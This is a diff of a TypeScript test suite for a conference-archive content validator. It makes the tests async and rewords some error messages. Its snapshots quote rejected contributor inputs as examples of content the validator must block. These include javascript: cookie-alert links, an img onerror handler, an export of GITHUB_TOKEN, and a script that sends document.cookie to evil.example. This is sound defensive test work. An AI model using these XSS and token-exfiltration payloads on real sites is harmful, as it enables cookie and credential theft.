@@ -14,25 +14,25 @@ const FIXTURES = new URL('../fixtures/', import.meta.url).pathname;
 const WORK = new URL('../.output/malformed/', import.meta.url).pathname;
 
 /** Lay a malformed fixture over the base archive and report what a contributor would read. */
-function report(name: string): string {
+async function report(name: string): Promise<string> {
   const root = join(WORK, name);
   rmSync(root, { recursive: true, force: true });
   mkdirSync(root, { recursive: true });
   cpSync(join(FIXTURES, 'base-content'), root, { recursive: true });
   cpSync(join(FIXTURES, 'malformed', name), root, { recursive: true });
-  const { issues } = loadArchive({ root }, '/');
+  const { issues } = await loadArchive({ root }, '/');
   return formatIssues(issues);
 }
 
 describe('the base archive', () => {
-  it('is valid, so every error below comes from its fixture', () => {
-    expect(loadArchive({ root: join(FIXTURES, 'base-content') }, '/').issues).toEqual([]);
+  it('is valid, so every error below comes from its fixture', async () => {
+    expect((await loadArchive({ root: join(FIXTURES, "base-content") }, "/")).issues).toEqual([]);
   });
 });
 
 describe('malformed content', () => {
-  it('aliases-unknown-target', () => {
-    expect(report('aliases-unknown-target')).toMatchInlineSnapshot(`
+  it('aliases-unknown-target', async () => {
+    expect(await report('aliases-unknown-target')).toMatchInlineSnapshot(`
       "content/speakers/aliases.yaml:5:11  Alias entry for "Grace Hopper" points at an unknown speaker
         field:    people.1.name
         found:    Grace Hopper, Amazing Grace
@@ -41,8 +41,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('aliases-wrong-type', () => {
-    expect(report('aliases-wrong-type')).toMatchInlineSnapshot(`
+  it('aliases-wrong-type', async () => {
+    expect(await report('aliases-wrong-type')).toMatchInlineSnapshot(`
       "content/speakers/aliases.yaml:3:14  Wrong value for "people.0.aliases"
         field:    people.0.aliases
         found:    "J. Doe"
@@ -51,8 +51,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-bad-key', () => {
-    expect(report('correction-bad-key')).toMatchInlineSnapshot(`
+  it('correction-bad-key', async () => {
+    expect(await report('correction-bad-key')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:1:1  "Streams in Practice" is not a valid key here
         field:    Streams in Practice
         found:    Streams in Practice
@@ -61,8 +61,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-duplicate-id', () => {
-    expect(report('correction-duplicate-id')).toMatchInlineSnapshot(`
+  it('correction-duplicate-id', async () => {
+    expect(await report('correction-duplicate-id')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:4:1  This key appears twice in the file
         field:    mini-summit-2021/streams-in-practice
         found:    a second entry with the same key
@@ -71,8 +71,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-ftp-url', () => {
-    expect(report('correction-ftp-url')).toMatchInlineSnapshot(`
+  it('correction-ftp-url', async () => {
+    expect(await report('correction-ftp-url')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:4:13  Wrong value for "mini-summit-2021/operating-kafka-at-scale.links.slides"
         field:    mini-summit-2021/operating-kafka-at-scale.links.slides
         found:    "ftp://files.example.org/slides.pdf"
@@ -81,8 +81,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-javascript-url', () => {
-    expect(report('correction-javascript-url')).toMatchInlineSnapshot(`
+  it('correction-javascript-url', async () => {
+    expect(await report('correction-javascript-url')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:4:12  Wrong value for "mini-summit-2021/operating-kafka-at-scale.links.video"
         field:    mini-summit-2021/operating-kafka-at-scale.links.video
         found:    "javascript:alert(document.cookie)"
@@ -91,8 +91,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-missing-reason', () => {
-    expect(report('correction-missing-reason')).toMatchInlineSnapshot(`
+  it('correction-missing-reason', async () => {
+    expect(await report('correction-missing-reason')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:2:3  Missing field "mini-summit-2021/operating-kafka-at-scale.reason"
         field:    mini-summit-2021/operating-kafka-at-scale.reason
         found:    nothing (the field is missing)
@@ -101,8 +101,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-missing-session', () => {
-    expect(report('correction-missing-session')).toMatchInlineSnapshot(`
+  it('correction-missing-session', async () => {
+    expect(await report('correction-missing-session')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:1:1  Correction for a session that does not exist: "mini-summit-2021/streams-in-practise"
         field:    mini-summit-2021/streams-in-practise
         found:    mini-summit-2021/streams-in-practise
@@ -111,8 +111,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-unknown-field', () => {
-    expect(report('correction-unknown-field')).toMatchInlineSnapshot(`
+  it('correction-unknown-field', async () => {
+    expect(await report('correction-unknown-field')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:3:3  Unknown field "titel"
         field:    mini-summit-2021/streams-in-practice.titel
         found:    titel
@@ -121,8 +121,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-unknown-track', () => {
-    expect(report('correction-unknown-track')).toMatchInlineSnapshot(`
+  it('correction-unknown-track', async () => {
+    expect(await report('correction-unknown-track')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:3:10  Unknown track "lightning"
         field:    mini-summit-2021/operating-kafka-at-scale.track
         found:    lightning
@@ -131,8 +131,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('correction-wrong-type', () => {
-    expect(report('correction-wrong-type')).toMatchInlineSnapshot(`
+  it('correction-wrong-type', async () => {
+    expect(await report('correction-wrong-type')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/corrections.yaml:3:13  Wrong value for "mini-summit-2021/streams-in-practice.speakers"
         field:    mini-summit-2021/streams-in-practice.speakers
         found:    "Jane Doe"
@@ -141,8 +141,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('profile-bad-url', () => {
-    expect(report('profile-bad-url')).toMatchInlineSnapshot(`
+  it('profile-bad-url', async () => {
+    expect(await report('profile-bad-url')).toMatchInlineSnapshot(`
       "content/speakers/profiles/jane-doe.md:4:10  Wrong value for "links.0.url"
         field:    links.0.url
         found:    "javascript:alert(1)"
@@ -151,8 +151,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('profile-unknown-speaker', () => {
-    expect(report('profile-unknown-speaker')).toMatchInlineSnapshot(`
+  it('profile-unknown-speaker', async () => {
+    expect(await report('profile-unknown-speaker')).toMatchInlineSnapshot(`
       "content/speakers/profiles/jane-dough.md:1:1  Profile for an unknown speaker "jane-dough"
         field:    (file name)
         found:    jane-dough.md
@@ -161,8 +161,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-bad-date', () => {
-    expect(report('session-bad-date')).toMatchInlineSnapshot(`
+  it('session-bad-date', async () => {
+    expect(await report('session-bad-date')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:5:7  Wrong value for "date"
         field:    date
         found:    "2021-13-45"
@@ -171,8 +171,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-duplicate-id', () => {
-    expect(report('session-duplicate-id')).toMatchInlineSnapshot(`
+  it('session-duplicate-id', async () => {
+    expect(await report('session-duplicate-id')).toMatchInlineSnapshot(`
       "content/sessions/operating-kafka-at-scale.mdx:1:1  Duplicate session id "mini-summit-2021/operating-kafka-at-scale": content/summits/mini-summit-2021/listing.txt:19 already has it
         field:    (file name)
         found:    mini-summit-2021/operating-kafka-at-scale
@@ -181,19 +181,19 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-mdx-component', () => {
-    expect(report('session-mdx-component')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:10:1  <Tweet> is not allowed in contributor MDX
+  it('session-mdx-component', async () => {
+    expect(await report('session-mdx-component')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:10:1  <Tweet> is not allowed in contributor content
         field:    <Tweet>
         found:    <Tweet id="123456" />
         expected: Markdown, or one of <Video>, <Slides>, <Quote>
-        fix:      Use one of the allowed components, or plain Markdown."
+        fix:      Use one of <Video>, <Slides>, <Quote>, or plain Markdown."
     `);
   });
 
-  it('session-mdx-export', () => {
-    expect(report('session-mdx-export')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:8:1  \`export\` is not allowed in contributor MDX
+  it('session-mdx-export', async () => {
+    expect(await report('session-mdx-export')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:8:1  \`export\` is not allowed in contributor content
         field:    export
         found:    export const secret = process.env.GITHUB_TOKEN
         expected: Markdown and the components <Video>, <Slides>, <Quote>, which need no import
@@ -201,9 +201,9 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-mdx-expression', () => {
-    expect(report('session-mdx-expression')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:8:46  JavaScript expressions \`{…}\` are not allowed in contributor MDX
+  it('session-mdx-expression', async () => {
+    expect(await report('session-mdx-expression')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:8:46  JavaScript expressions \`{…}\` are not allowed in contributor content
         field:    expression
         found:    {new Date().getFullYear()}
         expected: plain text
@@ -211,19 +211,19 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-mdx-img-onerror', () => {
-    expect(report('session-mdx-img-onerror')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:8:1  <img> is not allowed in contributor MDX
+  it('session-mdx-img-onerror', async () => {
+    expect(await report('session-mdx-img-onerror')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:8:1  <img> is not allowed in contributor content
         field:    <img>
         found:    <img src="x" onerror="alert(1)" />
         expected: Markdown, or one of <Video>, <Slides>, <Quote>
-        fix:      Raw HTML is not accepted in MDX files; write the same thing in Markdown."
+        fix:      Raw HTML is not accepted; write the same thing in Markdown."
     `);
   });
 
-  it('session-mdx-import', () => {
-    expect(report('session-mdx-import')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:7:1  \`import\` is not allowed in contributor MDX
+  it('session-mdx-import', async () => {
+    expect(await report('session-mdx-import')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:7:1  \`import\` is not allowed in contributor content
         field:    import
         found:    import Chart from '../../src/components/Chart.astro'
         expected: Markdown and the components <Video>, <Slides>, <Quote>, which need no import
@@ -231,18 +231,18 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-mdx-javascript-link', () => {
-    expect(report('session-mdx-javascript-link')).toMatchInlineSnapshot(`
+  it('session-mdx-javascript-link', async () => {
+    expect(await report('session-mdx-javascript-link')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:8:5  Links must use http(s), found "javascript:alert(document.cookie)"
         field:    link
         found:    javascript:alert(document.cookie)
-        expected: an absolute http(s) URL, or a site path starting with / such as /speakers/jun-rao/
+        expected: an absolute http(s) URL, mailto:, #anchor, or a site path starting with / such as /speakers/jun-rao/
         fix:      Link to the full https:// address or a site path; javascript:, data: and other schemes are not accepted."
     `);
   });
 
-  it('session-mdx-onerror', () => {
-    expect(report('session-mdx-onerror')).toMatchInlineSnapshot(`
+  it('session-mdx-onerror', async () => {
+    expect(await report('session-mdx-onerror')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:10:1  Event handler "onError" is not allowed on <Video>
         field:    Video.onError
         found:    onError
@@ -251,28 +251,28 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-mdx-script', () => {
-    expect(report('session-mdx-script')).toMatchInlineSnapshot(`
-      "content/sessions/stream-tables.mdx:10:1  <script> is not allowed in contributor MDX
+  it('session-mdx-script', async () => {
+    expect(await report('session-mdx-script')).toMatchInlineSnapshot(`
+      "content/sessions/stream-tables.mdx:10:1  <script> is not allowed in contributor content
         field:    <script>
         found:    <script>fetch('https://evil.example/?c=' + document.cooki…
         expected: Markdown, or one of <Video>, <Slides>, <Quote>
-        fix:      Raw HTML is not accepted in MDX files; write the same thing in Markdown."
+        fix:      Raw HTML is not accepted; write the same thing in Markdown."
     `);
   });
 
-  it('session-missing-frontmatter', () => {
-    expect(report('session-missing-frontmatter')).toMatchInlineSnapshot(`
+  it('session-missing-frontmatter', async () => {
+    expect(await report('session-missing-frontmatter')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:1:1  The file has no frontmatter
         field:    (frontmatter)
-        found:    no "---" block at the top
-        expected: a YAML block between "---" lines with summit, track, title, speakers (each: name, affiliation, role), date, links (video, slides), topics, provenance
+        found:    no "---" line at the top
+        expected: a YAML block between two lines that read exactly "---", at the top of the file
         fix:      Start the file with "---", the fields, and "---"; \`npm run new:session\` writes a valid one."
     `);
   });
 
-  it('session-missing-title', () => {
-    expect(report('session-missing-title')).toMatchInlineSnapshot(`
+  it('session-missing-title', async () => {
+    expect(await report('session-missing-title')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:2:1  Missing field "title"
         field:    title
         found:    nothing (the field is missing)
@@ -281,8 +281,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-speaker-wrong-type', () => {
-    expect(report('session-speaker-wrong-type')).toMatchInlineSnapshot(`
+  it('session-speaker-wrong-type', async () => {
+    expect(await report('session-speaker-wrong-type')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:6:5  Wrong value for "speakers.0"
         field:    speakers.0
         found:    "Jane Doe"
@@ -291,8 +291,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-unknown-summit', () => {
-    expect(report('session-unknown-summit')).toMatchInlineSnapshot(`
+  it('session-unknown-summit', async () => {
+    expect(await report('session-unknown-summit')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:2:9  Unknown summit "mini-summit-2022"
         field:    summit
         found:    mini-summit-2022
@@ -301,8 +301,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('session-unknown-track', () => {
-    expect(report('session-unknown-track')).toMatchInlineSnapshot(`
+  it('session-unknown-track', async () => {
+    expect(await report('session-unknown-track')).toMatchInlineSnapshot(`
       "content/sessions/stream-tables.mdx:3:8  Unknown track "keynotes" for Mini Summit 2021
         field:    track
         found:    keynotes
@@ -311,15 +311,15 @@ describe('malformed content', () => {
     `);
   });
 
-  it('summit-bad-yaml', () => {
-    expect(report('summit-bad-yaml')).toMatchInlineSnapshot(`
+  it('summit-bad-yaml', async () => {
+    expect(await report('summit-bad-yaml')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:6:1  This is not valid YAML: Sequence item without - indicator
         fix:      Check the indentation and quoting on this line; values containing ": " or starting with a special character need quotes."
     `);
   });
 
-  it('summit-missing-field', () => {
-    expect(report('summit-missing-field')).toMatchInlineSnapshot(`
+  it('summit-missing-field', async () => {
+    expect(await report('summit-missing-field')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:1:1  Missing field "name"
         field:    name
         found:    nothing (the field is missing)
@@ -328,8 +328,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('summit-track-missing-name', () => {
-    expect(report('summit-track-missing-name')).toMatchInlineSnapshot(`
+  it('summit-track-missing-name', async () => {
+    expect(await report('summit-track-missing-name')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:5:5  Missing field "tracks.0.name"
         field:    tracks.0.name
         found:    nothing (the field is missing)
@@ -338,8 +338,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('summit-unknown-field', () => {
-    expect(report('summit-unknown-field')).toMatchInlineSnapshot(`
+  it('summit-unknown-field', async () => {
+    expect(await report('summit-unknown-field')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:4:1  Unknown field "venue"
         field:    venue
         found:    venue
@@ -348,8 +348,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('summit-unknown-heading', () => {
-    expect(report('summit-unknown-heading')).toMatchInlineSnapshot(`
+  it('summit-unknown-heading', async () => {
+    expect(await report('summit-unknown-heading')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:7:14  Track heading "Lightning Talks" does not occur in content/summits/mini-summit-2021/listing.txt
         field:    tracks.1.heading
         found:    Lightning Talks
@@ -358,8 +358,8 @@ describe('malformed content', () => {
     `);
   });
 
-  it('summit-wrong-type', () => {
-    expect(report('summit-wrong-type')).toMatchInlineSnapshot(`
+  it('summit-wrong-type', async () => {
+    expect(await report('summit-wrong-type')).toMatchInlineSnapshot(`
       "content/summits/mini-summit-2021/summit.yaml:2:7  Wrong value for "year"
         field:    year
         found:    "twenty twenty-one"
